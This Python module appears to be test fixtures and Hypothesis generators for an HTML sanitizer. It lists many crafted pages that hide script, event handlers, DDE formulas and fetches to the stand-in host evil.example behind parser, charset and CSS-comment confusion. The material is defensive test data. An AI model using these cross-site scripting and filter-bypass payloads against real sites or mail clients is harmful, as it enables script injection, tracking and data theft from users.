"""Pages in which something acts that a careless reader does not see, and a generator of such pages."""

from __future__ import annotations

from hypothesis import strategies as st

_REMOTE = "background:url(//evil.example/x.png)"
PAGES: dict[str, tuple[bytes, str]] = {
    "vertical tab in the name of a tag": (b'<p\x0btitle="a onmouseover=evil() x">x</p>', ""),
    "vertical tab before a value": (b'<p title=\x0b"a onclick=evil() x">x</p>', ""),
    "hard blank in the name of a tag": ('<p\xa0title="a onmouseover=evil() x">x</p>'.encode(), ""),
    "separator in the name of a tag": (f'<p\x1ctitle="a style={_REMOTE} x">x</p>'.encode(), ""),
    "long s in the end of a style": ("<style>a{}</\u017ftyle><!-- </style><script>evil()</script> -->".encode(), ""),
    "dotless i in the end of a title": ("<title>a</t\u0131tle><!-- </title><script>evil()</script> -->".encode(), ""),
    "marks of a comment in strings": (f"<p style=\"content:'/*';{_REMOTE};quotes:'*/'\">x</p>".encode(), ""),
    "marks of a comment in addresses": (
        b'<p style="background:url(/*);background:url(//evil.example/?*/a.png)">x</p>', ""
    ),
    "marks of a comment in a sheet": (f'<style>a{{content:"/*"}}b{{{_REMOTE}}}c{{content:"*/"}}</style>'.encode(), ""),
    "string that ends with a form feed": (f"<p style=\"quotes:'\x0c;{_REMOTE};quotes:'\">x</p>".encode(), ""),
    "string that ends with a reference": (f"<p style=\"quotes:'&#12;;{_REMOTE};quotes:'\">x</p>".encode(), ""),
    "string that ends with a line": (f"<p style=\"quotes:'\r;{_REMOTE};quotes:'\">x</p>".encode(), ""),
    "comment in an address that has no end": (f'<p style="background:url(/* x);{_REMOTE};*/)">x</p>'.encode(), ""),
    "comment behind a string that has no end": (f"<p style=\"quotes:'/* \r*/;{_REMOTE};quotes:'\">x</p>".encode(), ""),
    "string in a condition": (
        f'<style>@media " {{a{{content:"}} q{{}} b{{{_REMOTE}}} c{{quotes:"}}}}</style>'.encode(), ""
    ),
    "address that is none in a selector": (f'<style>url(a "){{}} b{{{_REMOTE}}} c" ) {{}}</style>'.encode(), ""),
    "end of a noscript in a comment": (b"<noscript><!-- </noscript><img src=//evil.example/x> --></noscript>", ""),
    "end of a noscript in the last comment": (b"<noscript><!-- </noscript><img src=//evil.example/x> -->", ""),
    "charset in a description": (
        b'<meta name=a content="charset=utf-8"><meta charset=iso-2022-jp><p title="\x1b$B"><title>a\x1b(B" onclick=evil()></title>',
        "",
    ),
    "escapes in UTF-8": (b'<p title="\x1b$B"><title>a\x1b(B" onclick=evil()></title>\xc3\xa9', ""),
    "kanji beyond what browsers know": (b'\x1b$(D<img src="//evil.example/x.png">\x1b(B', "iso-2022-jp"),
    "yen sign for a backslash": (f"<p style=\"quotes:'\x1b(J\\\x1b(B';{_REMOTE};quotes:'\">".encode(), "iso-2022-jp"),
    "second half of a character in a saved page": (
        b"<meta charset=shift_jis><p style=\"quotes:'\x83\\';" + _REMOTE.encode() + b";quotes:'\">", "utf-8"
    ),
    "second half of a character in a guess": (b"<p style=\"quotes:'\xe3\x81\x83\\';" + _REMOTE.encode() + b";quotes:'\">", ""),
    "many blanks behind a handler": (b"<p/ onclick" + b" " * 100 + b"=evil()>x", ""),
    "address within a style": (
        b"<a / title=\"style='quotes:\" href=java&#9;scr&#105;pt&#58;evil() x=\" '\">x</a>", ""
    ),
    "quotation mark before a style": (f"<p/ style=\"'quotes:';{_REMOTE};quotes:' \">x".encode(), ""),
    "address for attribution": (b"<img / attributionsrc=https://evil.example/x>", ""),
    "end of nothing in a sheet": (
        f'<p title="><!-- "><style>a{{}} </{{}} b{{{_REMOTE}}}</style> -->'.encode(), ""
    ),
}  # fmt: skip
"""Each with the charset of its part; a browser runs `evil()`, or asks evil.example, when it is opened or clicked."""

LINKS: dict[str, bytes] = {
    "link that is shown": b'<link rel=file-list href="a_files/b.xml" style="display:block" onmouseover="evil()">',
    "link with a picture": b'<link rel=file-list href="a_files/b.xml" imagesrcset="//evil.example/x">',
}

AROUND = b"<html><body><p>before</p>%s<p>after</p></body></html>"
THREATS = {
    "script": b"<script>evil()</script>",
    "handler": b"<img src=cid:a onerror=evil()>",
    "handler without blank": b'<img src="cid:a"onerror=evil()>',
    "javascript link": b'<a href="java&#10;script:evil()">x</a>',
    "data link": b'<a href="data:text/html,evil">x</a>',
    "form": b"<form action=http://evil.example/><input name=p></form>",
    "frame": b"<iframe src=http://evil.example/></iframe>",
    "svg": b"<svg onload=evil()><script>evil()</script></svg>",
    "math": b"<math><mi xlink:href=javascript:evil()>x</mi></math>",
    "object": b"<object data=evil.swf></object>",
    "refresh": b'<meta http-equiv=refresh content="0;url=http://evil.example/">',
    "base": b"<base href=http://evil.example/>",
    "stylesheet": b"<link rel=stylesheet href=http://evil.example/>",
    "remote picture": b"<img src=http://evil.example/1.gif>",
    "set of pictures": b'<img srcset="http://evil.example/1.gif 1x">',
    "share": b"<img src=//evil.example/share/a.png>",
    "style address": b'<p style="background: url(http://evil.example/1.gif)">x</p>',
    "style escape": b'<p style="background: u\\72l(http://evil.example/1.gif)">x</p>',
    "style program": b'<p style="width: expression(evil())">x</p>',
    "style import": b"<style>@import 'http://evil.example/';</style>",
    "download": b'<a href="data:application/zip;base64,UEsD" download="evil.zip">x</a>',
    "condition": b"<!--[if mso]><img src=http://evil.example/1.gif><![endif]-->",
    "open comment": b"<!--><script>evil()</script>-->",
    "instruction": b'<?import namespace="t" implementation="#default#time2">',
    "noscript": b'<noscript><p title="</noscript><img src=x onerror=evil()>"></noscript>',
    "stray quote": b'<img width=1"><p title="onclick=evil()">x',
    "template": b"<template><script>evil()</script></template>",
    "blob link": b'<a href="blob:http://evil.example/y">x</a>',
    "ping": b'<a href="http://ok.example/" ping="http://evil.example/">x</a>',
    "link to a share": b'<a href="//evil.example/x">x</a>',
    "link to a program": b'<a href="ms-word:ofe|u|http://evil.example">x</a>',
    "link by backslashes": b'<a href="http:\\\\evil.example">x</a>',
    "preload": b'<link rel=preload as=image imagesrcset="http://evil.example/">',
    "SVG as a picture": b'<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    "input as a picture": b"<input type=image src=http://evil.example/ formaction=javascript:evil()>",
    "frame of its own": b'<iframe srcdoc="<script>evil()</script>"></iframe>',
    "smuggling": b"<script>var b=new Blob([atob('TVo')]);</script>",
    "background": b'<table background="//evil.example/x.png"></table>',
    "film": b"<video poster=http://evil.example/></video>",
    "hidden style": b"<svg></p><style><a id='</style><img src=1 onerror=evil()>'>",
    "hidden glyph": b'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=evil()&gt;">',
    "hidden form": b"<form><math><mtext></form><form><mglyph><style></math><img src onerror=evil()>",
    "hidden textarea": b'<div><textarea><img title="</textarea><img src=x onerror=evil()>"></div>',
    "hidden select": b"<select><style></select><img src=x onerror=evil()></style>",
    "sloppy comment": b"<!-- x --!><img src=x onerror=evil()>-->",
    "sloppy section": b"<![CDATA[><img src=x onerror=evil()>]]>",
    "slash for blank": b"<a/onclick=evil()/href=#>x</a>",
    "form feed for blank": b"<img\x0csrc=cid:a\x0conerror=evil()>",
    "NUL in a name": b"<img src=cid:a on\0error=evil()>",
    "prefix": b'<o:script xmlns:o="http://www.w3.org/1999/xhtml">evil()</o:script>',
    "template of Word": b'<!--[if mso]><xml><w:WordDocument><w:AttachedTemplate HRef="http://evil.example/x.dot"/></w:WordDocument></xml><![endif]-->',
    "query of Excel": b"<!--[if mso]><xml><x:QueryTable><x:Connection>http://evil.example</x:Connection></x:QueryTable></xml><![endif]-->",
    "drawing of Word": b'<!--[if gte mso 9]><v:rect><v:fill src="http://evil.example/"/></v:rect><![endif]-->',
    "formula of Excel": b"<table><tr><td x:fmla=\"=cmd|'/c evil'!A0\">x</td></tr></table>",
    "set of addresses": b"<p style=\"background:image-set('http://evil.example/' 1x)\">x</p>",
    "address by function": b"<p style=\"background:src('http://evil.example/')\">x</p>",
    "address by name": b"<style>p{--x:url(http://evil.example/);background:var(--x)}</style>",
    "address of a font": b"<style>@font-face{font-family:x;src:url(http://evil.example/)}</style>",
    "pointer": b'<p style="cursor:url(http://evil.example/),auto">x</p>',
    "style by escape": b'<p style="beh\\61vior:url(evil.htc)">x</p>',
    "unclosed style": b'<p style="font-family:\'x;background:url(http://evil.example/)">x</p>',
    "filter": b"<p style=\"filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='http://evil.example/')\">x</p>",
    "frame hidden in a comment by a stray quote": b'<img width=1""><!-- <iframe name=x></iframe> -->',
    "base hidden in a comment by a stray quote": b'<img width=1""><!-- <base href="http://evil.example/"> -->',
    "style hidden in a comment by a stray quote": b"<img width=1\"\"><!-- <style>p{background:url('http://evil.example/')}</style> -->",
    "action behind a stray quote": b'<img width=1""><p title=" action=evil()">x</p>',
    "colour that is a handler": b'<font color="1"onmouseover=evil() >x</font>',
    "data binding": b"<span datasrc=#x datafld=y dataformatas=html>x</span>",
    "unknown element with an address": b'<tr:ad src="http://evil.example/"></tr:ad>',
    "unknown attribute with an address": b'<p mreach="http://evil.example/">x</p>',
    "any prefix": b"<tr:script>evil()</tr:script>",
    "drawing by any prefix": b'<q:imagedata name="x"/>',
    "background that is a word": b"<table background=evil></table>",
}
"""What acts or is fetched in a page, to stand in `AROUND`."""

_ACTING = st.sampled_from(
    [
        "<img src=//evil.example/x>",
        "<img src='http://evil.example/x.png'>",
        " src=//evil.example/x ",
        " onmouseover=evil() ",
        ' onerror="evil()" ',
        f' style="{_REMOTE}" ',
        f" style='{_REMOTE}' ",
        f" style={_REMOTE} ",
        f"<style>b{{{_REMOTE}}}</style>",
        f"b{{{_REMOTE}}}",
        f"{_REMOTE};",
        '@import "//evil.example/";',
        " href=java&#9;scr&#105;pt&#58;evil() ",
        " background=//evil.example/x.png ",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content=0>",
        "<svg>",
        "<math>",
        "<form>",
        "<iframe>",
        "<link rel=stylesheet href=//evil.example/>",
        "<script>evil()</script>",
        "<template shadowrootmode=open>",
        "<x-evil onclick=evil()>",
        ' srcset="//evil.example/x 1x" ',
        "<image src=//evil.example/x>",
        "<body background=//evil.example/x>",
    ]
)
_PIECE = st.sampled_from(
    [
        *("<!--", "-->", "--!>", "<!-->", "<!", "]]>", "<![CDATA[", "<![endif]-->", "<!--[if mso]>", "<![if x]>", ">", "/>"),
        *("</style>", "</title>", "</noscript>", "<style>", "<title>", "<noscript>", "<p>", "<table>", "<td>", "<select>"),
        *("a{", "}", "{", ":", ";", "(", ")", "'", '"', '""', "/*", "*/", "url(", "\\", "@media x{", "quotes:", "`", "="),
        *("&quot;", "&#39;", "&#12;", "\x0b", "\x0c", "\r", "\xa0", "\x1c", "\x1b$B", "\x1b(B", "\u017f", "\u0131", "\x83\\"),
        *("<p", "<a", "<img", "<tr:ad", "<p / ", '<p width=1"">', "<CHRIS@X.COM>", "<a href=x=1=2>", ' title="', " alt='"),
        *("<meta charset=utf-8>", "<meta charset=shift_jis>", "<meta charset=iso-2022-jp>", "text", "あ", "ソ", " ", "\n"),
    ]
)  # fmt: skip
_PLACES = st.sampled_from(
    [
        *('<p title="%s">', "<p title='%s'>", "<!-- %s -->", '<a href="#%s">', '<img alt="%s">', "<p %s>", "<p / %s>"),
        *("<style>/* %s */</style>", '<style>a{quotes:"%s"}</style>', "<style>a{quotes:'%s'}</style>", "<style>%s</style>"),
        *("<p style=\"quotes:'%s'\">", "<p style='quotes:\"%s\"'>", '<p style="/*%s*/">', '<p style="%s">'),
        *("<title>%s</title>", "<noscript>%s</noscript>", "<!--[if mso]>%s<![endif]-->", "<table><tr>%s</table>"),
        *("<style>@media x{%s}</style>", "<o:p>%s</o:p>", '<meta name=x content="%s">', "<font face=%s>", "%s"),
        *("<!--[if !mso]><!-->%s<!--<![endif]-->", '<a href="http://example.com/?%s">', "\x1b(J%s\x1b(B", "%s"),
    ]
)  # fmt: skip


_RULES = st.sampled_from(
    [
        *("'", '"', "(", ")", "{", "}", ";", ":", "/*", "*/", "\\", "\n", "\r", "\x0c", "\\\n", "url(", "[", "]", "<!--", "-->"),
        *("url(//e/x)", "url('//e/x')", _REMOTE, "b{background:url(//e/x)}", "@import '//e/';", "u\\72l(//e/x)"),
        *("image-set('//e/x' 1x)", "expression(x)", "@media x{", "@supports (a:b){", "@font-face{", "src:url(//e/x);"),
        *("a{", "color:red", "quotes:", "x", ".x", ",", ">", " ", "@", "var(--x)", "--x:", "\x0b", "\xa0", "\xe9", "!important"),
    ]
)  # fmt: skip
_FRAMES = st.sampled_from(
    [
        *("%s", "quotes:'%s'", "background:url(%s)", "/*%s*/", "color:red;%s", f"quotes:'%s;{_REMOTE};quotes:'"),
        *("a{quotes:'%s'}", "a{%s}", "@media x{%s}", f"%s b{{{_REMOTE}}}", "@media %s{a{color:red}}", "%s{color:red}"),
        f"a{{quotes:'%s}} b{{{_REMOTE}}} c{{quotes:'}}",
    ]
)
rules = st.tuples(_FRAMES, st.lists(_RULES, max_size=10)).map(lambda drawn: drawn[0].replace("%s", "".join(drawn[1])))
"""Style sheets and declarations in which an address may stand behind strings, comments and errors."""


@st.composite
def pages(draw) -> bytes:
    """Draw a page in which something that acts is hidden in one place within another."""
    text = draw(_ACTING)
    for place in draw(st.lists(_PLACES, min_size=1, max_size=3)):
        before, after = ("".join(draw(st.lists(_PIECE, max_size=2))) for _ in range(2))
        text = place.replace("%s", before + text + after)
    return text.encode(draw(st.sampled_from(["utf-8", "utf-8", "cp932", "latin-1"])), "replace")
